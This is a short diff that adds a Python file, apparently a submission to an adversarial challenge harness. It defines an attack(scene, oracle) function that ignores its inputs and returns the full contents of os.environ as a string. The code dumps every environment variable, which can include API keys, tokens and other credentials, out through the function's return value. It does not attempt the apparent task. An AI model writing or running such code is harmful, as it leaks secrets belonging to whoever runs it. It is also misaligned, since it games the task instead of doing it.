@@ -1,0 +1,5 @@
+import os
+
+
+def attack(scene, oracle):
+    return str(dict(os.environ))
